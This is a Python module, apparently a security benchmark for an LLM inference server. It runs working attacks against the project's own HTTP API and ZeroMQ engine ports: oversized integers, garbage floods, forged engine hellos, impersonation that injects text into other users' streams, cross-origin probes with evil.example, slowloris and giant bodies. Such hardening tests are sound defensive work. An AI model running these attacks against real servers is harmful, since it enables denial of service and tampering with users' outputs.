"""Issue 25's attackers, a few lines each, run one after the other by :mod:`openinfer.benchmarks.attacks`:
each takes a :class:`Target`, attacks for about ``Target.seconds`` and says what it achieved.

They use only the HTTP API and the wire protocol (forged messages are encoded with the project's own codec)
and bound every socket operation: where the engine ports authenticate (CurveZMQ) they report the refusal.
"""

from __future__ import annotations

import asyncio
import json
import os
import random
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import msgspec
import zmq
import zmq.asyncio
from tokenizers import Tokenizer
from zmq.utils.monitor import parse_monitor_message

from openinfer.engine_core.builtin_model import builtin_target_folder
from openinfer.protocol import (
    PROTOCOL_VERSION,
    EngineCoreOutput,
    EngineCoreOutputs,
    EngineCoreRequest,
    EngineHello,
    EngineInputCodec,
    EngineOutputCodec,
    LoadSnapshot,
    SpecDecodeCounters,
    engine_identity,
)

SEND_TIMEOUT_S = 1.0  # a ZMQ send not taken within this is given up (a port that does not take us)
HANDSHAKE_TIMEOUT_S = 2.0
FORGED_INDEX = 64  # the first index forged engines claim: openinfer-serve's engines have lower ones
# /health is watched this long after the forged seqs: past the frontend's default --engine-timeout (5 s)
WEDGE_WATCH_S = 8.0
EVIL = "http://evil.example"
_HANDSHAKES = zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL
_HANDSHAKES |= zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL | zmq.EVENT_HANDSHAKE_FAILED_AUTH


@dataclass(frozen=True)
class Target:
    """The server under attack (its HTTP API, engine ports and files) and the attacks' bounds."""

    session: aiohttp.ClientSession  # sends the API key, if the server has one
    host: str
    port: int  # HTTP
    api_key: str | None
    model: str  # the served model's name
    engine_port: int  # the frontend's request port; outputs arrive on the next one
    spec_log_dir: Path
    state_dir: Path
    seconds: float  # how long each attack runs
    idle_seconds: float  # how long slow and idle connections are held
    body_mb: float  # the size of each big body
    schema_depth: int  # nesting of the slow JSON schemas
    hellos: int  # forged hellos of distinct indices, at most

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}"

    def body(self, **fields: Any) -> dict[str, Any]:
        """A small completion's body, with ``fields`` added."""
        return {"model": self.model, "prompt": "ROMEO:", "max_tokens": 2, **fields}


Attacker = Callable[[Target], Awaitable[str]]


async def post(target: Target, body: object, timeout: float = 60.0) -> int:
    """POST a completion (bytes are sent as they are): its status, 0 when none came within ``timeout``."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    headers, limit = {"Content-Type": "application/json"}, aiohttp.ClientTimeout(total=timeout)
    try:
        async with target.session.post(
            f"{target.url}/v1/completions", data=data, headers=headers, timeout=limit
        ) as r:
            await r.read()
            return r.status
    except (TimeoutError, aiohttp.ClientError):
        return 0


async def get(target: Target, path: str) -> Any:
    """A route's JSON (its text for /metrics); None when it does not answer 200."""
    async with target.session.get(target.url + path) as response:
        text = await response.text()
    return None if response.status != 200 else text if path == "/metrics" else json.loads(text)


async def metric_sum(target: Target, sample: str) -> float:
    """The sum over every series of one /metrics sample."""
    lines = (await get(target, "/metrics")).splitlines()
    return sum(float(line.rsplit(" ", 1)[1]) for line in lines if line.startswith(sample + "{"))


async def max_model_len(target: Target) -> int:
    """The served model's max_model_len on /v1/models; 0 while no engine serves it."""
    models = (await get(target, "/v1/models") or {"data": []})["data"]
    return next((int(m["max_model_len"]) for m in models if m["id"] == target.model), 0)


async def engines_up(target: Target) -> int:
    return int((await get(target, "/health") or {"engines_up": 0})["engines_up"])


def tally(statuses: list[int]) -> str:
    """``"256×500, 44×503"`` (0: no answer)."""
    return ", ".join(f"{n}×{s or 'no answer'}" for s, n in sorted(Counter(statuses).items()))


class EnginePorts:
    """A local process's sockets on the frontend's engine ports: a PUSH to the outputs port (where engines
    send) and, posing as an engine (``identity``), a DEALER on the requests port. Every operation is bounded."""

    def __init__(self, port: int, identity: bytes | None = None) -> None:
        self._context = zmq.asyncio.Context()
        self._push = self._context.socket(zmq.PUSH)
        self._monitor = self._push.get_monitor_socket(_HANDSHAKES)
        self._push.connect(f"tcp://127.0.0.1:{port + 1}")
        self._dealer = self._context.socket(zmq.DEALER)
        if identity is not None:
            self._dealer.setsockopt(zmq.IDENTITY, identity)
            self._dealer.connect(f"tcp://127.0.0.1:{port}")
        self._codec = EngineOutputCodec()

    async def refusal(self) -> str | None:
        """None when the outputs port took our ZMTP handshake; else how it refused."""
        try:
            frames = await asyncio.wait_for(self._monitor.recv_multipart(), HANDSHAKE_TIMEOUT_S)
        except TimeoutError:
            return f"refused: no ZMTP handshake within {HANDSHAKE_TIMEOUT_S:g} s"
        if parse_monitor_message(frames)["event"] != zmq.EVENT_HANDSHAKE_SUCCEEDED:
            return "refused: the ZMTP handshake failed (the port authenticates)"
        return None

    async def send(self, message: EngineHello | EngineCoreOutputs | list[bytes]) -> bool:
        """Send a message (or raw frames); False when it was not taken within SEND_TIMEOUT_S."""
        frames = message if isinstance(message, list) else [self._codec.encode(message)]
        try:
            await asyncio.wait_for(self._push.send_multipart(frames), SEND_TIMEOUT_S)
        except TimeoutError:
            return False
        return True

    async def requests_received(self, seconds: float) -> int:
        """How many requests the frontend sent us within ``seconds``."""
        received, deadline, codec = 0, time.monotonic() + seconds, EngineInputCodec()
        while (left := deadline - time.monotonic()) > 0:
            try:
                frame = await asyncio.wait_for(self._dealer.recv(), left)
            except TimeoutError:
                break
            received += isinstance(codec.decode(frame), EngineCoreRequest)
        return received

    def close(self) -> None:
        self._context.destroy(linger=0)


def idle_load(counters: SpecDecodeCounters | None) -> LoadSnapshot:
    """An idle engine's load: 1024 free KV blocks, no requests, these spec-decode counters."""
    return LoadSnapshot(kv_used_blocks=0, kv_total_blocks=1024, num_running_reqs=0, num_waiting_reqs=0,
                        spec_decode=counters)  # fmt: skip


def outputs(index: int, incarnation: int, seq: int, new: list[EngineCoreOutput],
            counters: SpecDecodeCounters | None = None) -> EngineCoreOutputs:  # fmt: skip
    """An engine's outputs message (a heartbeat when ``new`` is empty)."""
    return EngineCoreOutputs(engine_index=index, incarnation=incarnation, seq=seq, timestamp=time.time(),
                             outputs=new, load=idle_load(counters))  # fmt: skip


def hello(model: str, index: int, max_model_len: int = 2048) -> EngineHello:
    """A new incarnation's hello for ``model``, with the built-in model's tokenizer files; K = 7."""
    folder = builtin_target_folder()
    return EngineHello(
        protocol_version=PROTOCOL_VERSION, engine_index=index, incarnation=random.getrandbits(64), seq=0,
        model_name=model, max_model_len=max_model_len, kv_block_size=16, kv_num_blocks=1024, num_spec_tokens=7,
        vocab_size=json.loads((folder / "config.json").read_text())["vocab_size"], eos_token_ids=[0],
        tokenizer_json=(folder / "tokenizer.json").read_bytes(),
        tokenizer_config_json=(folder / "tokenizer_config.json").read_bytes(),
        load=idle_load(SpecDecodeCounters.zero(7)),
    )  # fmt: skip


# ---- the attacks, in the order of issue 25's list ----


async def big_integers(target: Target) -> str:
    """Each integer field at 2^64 once, then ``top_k`` at 2^64 (it overflowed the encoder after admission
    and leaked its router entry) up to 300 times, one after the other, then a normal request: a 503 says the
    leaks filled the engine's queue (--max-queued-per-engine, 256 by default)."""
    fields = ["top_k", "seed", "max_tokens", "min_tokens", "logprobs", "n"]
    failed = [name for name in fields if await post(target, target.body(**{name: 2**64})) >= 500]
    statuses: list[int] = []
    deadline = time.monotonic() + target.seconds
    while time.monotonic() < deadline and len(statuses) < 300:
        statuses.append(await post(target, target.body(top_k=2**64)))
    normal = await post(target, target.body())
    flood = f"top_k=2^64 ×{len(statuses)}: {tally(statuses)}"
    return f"5xx for: {', '.join(failed) or 'none'}; {flood}; then a normal request: {normal}"


def garbage(n: int) -> list[bytes]:
    """The n-th garbage message: random bytes, msgpack of the wrong shape, two frames, or outputs of an
    incarnation that never said hello (four protocol-error paths)."""
    if n % 4 == 0:
        return [os.urandom(32)]
    if n % 4 == 1:
        return [msgspec.msgpack.encode(["out", n, "garbage"])]
    if n % 4 == 2:
        return [b"garbage", b"garbage"]
    return [EngineOutputCodec().encode(outputs(1000 + n % 1000, random.getrandbits(64), 1, []))]


async def garbage_flood(target: Target) -> str:
    """Garbage on the engine outputs port for ``seconds``, as fast as the frontend takes it."""
    ports = EnginePorts(target.engine_port)
    try:
        if (refused := await ports.refusal()) is not None:
            return refused
        before = await metric_sum(target, "openinfer:protocol_errors_total")
        sent, deadline = 0, time.monotonic() + target.seconds
        while time.monotonic() < deadline and await ports.send(garbage(sent)):
            sent += 1
        counted = await metric_sum(target, "openinfer:protocol_errors_total") - before
    finally:
        ports.close()
    return f"{sent:,} garbage messages: protocol_errors_total +{counted:,.0f} by the end"


async def forged_hellos(target: Target) -> str:
    """Joins as an engine whose counters hold 1e15 drafts and heart-beats for half the time, taking the user
    requests that come while long requests keep the real engine busy; then joins as another engine with
    max_model_len 8; then sends up to ``hellos`` hellos of distinct indices (memory and series growth)."""
    engine = hello(target.model, FORGED_INDEX)
    ports = EnginePorts(target.engine_port, engine_identity(FORGED_INDEX, engine.incarnation))
    try:
        if (refused := await ports.refusal()) is not None:
            return refused
        drafts = await metric_sum(target, "vllm:spec_decode_num_drafts_total")
        await ports.send(engine)
        long_request = target.body(max_tokens=2000, ignore_eos=True)
        busy = [asyncio.create_task(post(target, long_request, target.seconds / 2)) for _ in range(2)]
        drafted = 10**15  # drafts of one token, none accepted
        inflated = SpecDecodeCounters(7, drafted, drafted, 0, [0] * 7, [drafted] + [0] * 7)
        received = 0
        for seq in range(1, int(target.seconds) + 1):  # a heartbeat every half second, for half the time
            await ports.send(outputs(FORGED_INDEX, engine.incarnation, seq, [], inflated))
            received += await ports.requests_received(0.5)
        await asyncio.gather(*busy)
        raised = await metric_sum(target, "vllm:spec_decode_num_drafts_total") - drafts
        length = await max_model_len(target)
        await ports.send(hello(target.model, FORGED_INDEX + 1, max_model_len=8))
        shrunk, sent, deadline = length, 0, time.monotonic() + 2.0  # the frontend reads a hello in ms
        while shrunk == length and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
            shrunk = await max_model_len(target)
        while sent < target.hellos and await ports.send(hello(target.model, 1000 + sent)):
            sent += 1
        peak, up = -1, await engines_up(target)
        while up > peak:  # until the frontend has read them all
            peak = up
            await asyncio.sleep(0.5)
            up = await engines_up(target)
    finally:
        ports.close()
    return (
        f"joined: drafts_total +{raised:.3g}, user requests received: {received}; max_model_len {length}→{shrunk}; "
        f"{sent:,} forged hellos: engines_up peaked at {peak:,}"
    )


def read_incarnation(target: Target) -> tuple[int, str] | None:
    """Engine 0's incarnation as a local process that can read the files finds it, and where (with the
    file's mode); None when neither file tells it."""
    spec_log, state = target.spec_log_dir / "spec-engine0.jsonl", target.state_dir / "frontend-state.json"
    readers: list[tuple[Path, Callable[[bytes], int]]] = [
        (spec_log, lambda data: int(json.loads(data.splitlines()[-1])["incarnation"], 16)),
        (state, lambda data: int(json.loads(data)["incarnations"]["0"])),
    ]
    for path, read in readers:
        try:
            return read(path.read_bytes()), f"{path.name} (mode {path.stat().st_mode & 0o777:04o})"
        except (OSError, ValueError, KeyError, IndexError, TypeError):
            continue
    return None


async def streamed_text(target: Target) -> str:
    """Another user's streaming completion: the text it got within ``seconds``."""
    body, text = target.body(max_tokens=1000, ignore_eos=True, stream=True), []
    try:
        limit = aiohttp.ClientTimeout(total=target.seconds)
        async with target.session.post(f"{target.url}/v1/completions", json=body, timeout=limit) as response:
            async for line in response.content:
                if line.startswith(b"data: {"):
                    text += [choice.get("text", "") for choice in json.loads(line[6:]).get("choices", [])]
    except (TimeoutError, aiohttp.ClientError):
        pass
    return "".join(text)


async def impersonation(target: Target) -> str:
    """Poses as live engine 0 with the incarnation read from a file: injects text into each request its
    spec log shows in flight (with a seq far ahead), then sends seq 2^63-1 and watches /health."""
    if (found := read_incarnation(target)) is None:
        return "no incarnation readable: nothing to pose as"
    incarnation, source = found
    tokenizer = Tokenizer.from_file(str(builtin_target_folder() / "tokenizer.json"))
    hacked = tokenizer.encode(" HACKED BY A LOCAL PEER").ids
    spec_log, ports = target.spec_log_dir / "spec-engine0.jsonl", EnginePorts(target.engine_port)
    try:
        if (refused := await ports.refusal()) is not None:
            return f"incarnation from {source}; {refused}"
        offset = spec_log.stat().st_size  # requests drafted before now are over
        client, injected = asyncio.create_task(streamed_text(target)), set[str]()
        while not client.done() and len(injected) < 16:
            lines = spec_log.read_bytes()[offset:].split(b"\n")[:-1]  # complete lines only
            for request_id in {json.loads(line)["request_id"] for line in lines} - injected:
                output = EngineCoreOutput(request_id=request_id, new_token_ids=hacked)
                await ports.send(outputs(0, incarnation, 2**62 + len(injected), [output]))
                injected.add(request_id)
            await asyncio.sleep(0.05)
        seen = "HACKED BY A LOCAL PEER" in await client
        await ports.send(outputs(0, incarnation, 2**63 - 1, []))
        sent, down = time.monotonic(), None
        while down is None and time.monotonic() - sent < WEDGE_WATCH_S:
            down = time.monotonic() - sent if await engines_up(target) == 0 else None
            await asyncio.sleep(0.25)
    finally:
        ports.close()
    after = f"engine 0 up for {WEDGE_WATCH_S:g} s" if down is None else f"engine 0 down {down:.1f} s later"
    return (
        f"incarnation from {source}; streams injected into: {len(injected)}, "
        f"{'seen' if seen else 'not seen'} by a client; after seq 2^63-1: {after}"
    )


async def cross_origin(target: Target) -> str:
    """What a page on another origin can send without a CORS preflight (and without the API key): a JSON
    body as text/plain, form or multipart; a request for ``Host: evil.example`` (DNS rebinding); a preflight."""
    body = json.dumps(target.body()).encode()
    cases = [
        ("text/plain", "POST", {"Content-Type": "text/plain", "Origin": EVIL}),
        ("form", "POST", {"Content-Type": "application/x-www-form-urlencoded", "Origin": EVIL}),
        ("multipart", "POST", {"Content-Type": "multipart/form-data; boundary=x", "Origin": EVIL}),
        ("Host evil", "POST", {"Content-Type": "application/json", "Host": "evil.example"}),
        ("preflight", "OPTIONS", {"Origin": EVIL, "Access-Control-Request-Method": "POST"}),
    ]
    answers, allowed = [], set()
    async with aiohttp.ClientSession() as page:
        for label, method, headers in cases:
            async with page.request(method, f"{target.url}/v1/completions", data=body, headers=headers) as r:
                answers.append(f"{label} {r.status}")
                allowed.add(r.headers.get("Access-Control-Allow-Origin"))
    origins = ", ".join(sorted(origin for origin in allowed if origin)) or "none"
    return f"{', '.join(answers)}; Access-Control-Allow-Origin: {origins}"


async def big_bodies(target: Target) -> str:
    """8 token-id prompts and 4 ``logit_bias`` maps of ``body_mb`` MB each, all at once, in rounds until the
    time is up."""
    size = int(target.body_mb * 1e6)
    head = b'{"model": %s, "max_tokens": 1, ' % json.dumps(target.model).encode()
    prompt = head + b'"prompt": [' + b"5," * (size // 2) + b"5]}"
    bias = b",".join(b'"%d": 1' % token for token in range(size // 10))
    logit_bias = head + b'"prompt": "ROMEO:", "logit_bias": {' + bias + b"}}"
    prompts, biases, deadline = list[int](), list[int](), time.monotonic() + target.seconds
    while time.monotonic() < deadline:
        answers = await asyncio.gather(
            *(post(target, prompt) for _ in range(8)), *(post(target, logit_bias) for _ in range(4))
        )
        prompts, biases = prompts + answers[:8], biases + answers[8:]
    mb = f"{target.body_mb:g} MB"
    return f"token-id prompts of {mb}: {tally(prompts)}; logit_bias maps of {mb}: {tally(biases)}"


async def slow_schemas(target: Target) -> str:
    """8 completions constrained by a JSON schema of ``schema_depth`` nested arrays, whose clients give up
    after ``seconds`` (the victim's chat request shows whether templates wait behind the compiles)."""
    schema: dict[str, Any] = {"type": "string"}
    for _ in range(target.schema_depth):
        schema = {"type": "array", "items": schema}
    body = target.body(structured_outputs={"json": schema})
    statuses = await asyncio.gather(*(post(target, body, timeout=target.seconds) for _ in range(8)))
    return f"8 schemas {target.schema_depth} deep: {tally(list(statuses))}"


async def held(target: Target, idle: bool) -> float | None:
    """A connection held for ``idle_seconds``: idle after a /health (keep-alive), or sending its headers a
    line a second. The seconds after which the server closed it (or answered), None if it stayed open."""
    started = time.monotonic()
    reader, writer = await asyncio.wait_for(asyncio.open_connection(target.host, target.port), 10)
    try:
        writer.write(
            b"%s HTTP/1.1\r\nHost: %s:%d\r\n"
            % (b"GET /health" if idle else b"POST /v1/completions", target.host.encode(), target.port)
        )
        if idle:
            writer.write(b"\r\n")
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
            length = next(
                int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")
            )
            await asyncio.wait_for(reader.readexactly(length), 10)
        while (left := started + target.idle_seconds - time.monotonic()) > 0:
            try:
                await asyncio.wait_for(reader.read(1024), min(left, 1.0))
                return time.monotonic() - started
            except TimeoutError:
                writer.write(b"" if idle else b"X-Slow: 1\r\n")
        return None
    except (ConnectionError, asyncio.IncompleteReadError):
        return time.monotonic() - started
    finally:
        writer.close()


def closed(times: list[float | None]) -> str:
    ends = sorted(t for t in times if t is not None)
    return f"{len(ends)} closed, after {ends[0]:.1f}-{ends[-1]:.1f} s" if ends else "none closed"


async def slowloris(target: Target) -> str:
    """64 connections sending their headers a line a second and 64 idle keep-alive ones, held for
    ``idle_seconds``: does the server close them, and when."""
    times = await asyncio.gather(*(held(target, idle=i % 2 == 1) for i in range(128)))
    slow, idle = closed(times[::2]), closed(times[1::2])
    return f"in {target.idle_seconds:g} s: 64 half-sent headers {slow}; 64 idle keep-alive {idle}"


async def raw_post(
    target: Target, body: bytes, auth: bytes | None = None, leave_after: float | None = None
) -> int:
    """POST a completion over a raw connection (``auth``: the Authorization value; default: the API key's):
    the answer's status, 0 when none came within 10 s or the client left ``leave_after`` s after sending."""
    auth = auth if auth is not None else b"Bearer %s" % target.api_key.encode() if target.api_key else b""
    reader, writer = await asyncio.wait_for(asyncio.open_connection(target.host, target.port), 10)
    try:
        head = b"POST /v1/completions HTTP/1.1\r\nHost: %s:%d\r\n" % (target.host.encode(), target.port)
        head += b"Authorization: %s\r\n" % auth if auth else b""
        writer.write(
            head + b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body)
        )
        if leave_after is not None:
            await asyncio.sleep(leave_after)
            return 0
        line = await asyncio.wait_for(reader.readline(), 10)
        return int(line.split()[1]) if line.startswith(b"HTTP/") else 0
    except (TimeoutError, ConnectionError):
        return 0
    finally:
        writer.close()


async def error_bodies(target: Target) -> str:
    """``'[' * 100000``, a non-ASCII byte in ``Authorization`` (checked only with an API key), and streaming
    clients that leave before their response headers: each once made a 500 or a traceback."""
    nested = await post(target, b"[" * 100_000)
    bad_auth = await raw_post(target, json.dumps(target.body()).encode(), auth=b"Bearer \xff")
    stream = json.dumps(target.body(max_tokens=32, stream=True)).encode()
    left, deadline = 0, time.monotonic() + target.seconds
    while time.monotonic() < deadline and left < 200:
        left += 1
        await raw_post(target, stream, leave_after=0.001 * (left % 10))  # at different points of the handler
    return (
        f"'['×100000: {nested}; \\xff in Authorization: {bad_auth}; {left} streams left before their headers"
    )


ATTACKERS: dict[str, Attacker] = {
    "big_integers": big_integers,
    "garbage_flood": garbage_flood,
    "forged_hellos": forged_hellos,
    "impersonation": impersonation,
    "cross_origin": cross_origin,
    "big_bodies": big_bodies,
    "slow_schemas": slow_schemas,
    "slowloris": slowloris,
    "error_bodies": error_bodies,
}
